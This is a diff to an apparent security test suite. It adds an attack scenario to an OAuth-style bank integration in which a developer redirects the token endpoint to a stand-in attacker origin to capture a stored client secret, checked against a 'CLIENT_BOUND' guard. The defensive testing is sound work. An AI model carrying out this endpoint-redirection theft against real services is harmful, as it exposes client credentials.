@@ -280,6 +280,20 @@ const tokens: Attack[] = [
     },
   },
   {
+    name: "another token endpoint for the client's secret",
+    guard: "CLIENT_BOUND",
+    story:
+      "A developer, who may change the service but never read the secret that an admin saved, gives it a token endpoint of their own and begins a consent: the secret would come to them.",
+    async run(world) {
+      const victim = await world.makeBankCustomer();
+      const developer = await world.makeDeveloper(victim);
+      await world.moveTokenEndpoint(developer, `${world.evil.origin}/token`);
+      const begun = await world.tryBegin(developer);
+      if (begun) await world.comeBack(world.bank.consent(begun.authorizationUrl, mallory), begun.cookie);
+      return stolen(world);
+    },
+  },
+  {
     name: "a token answer that names a foreign API",
     guard: "API_DOMAIN",
     story:
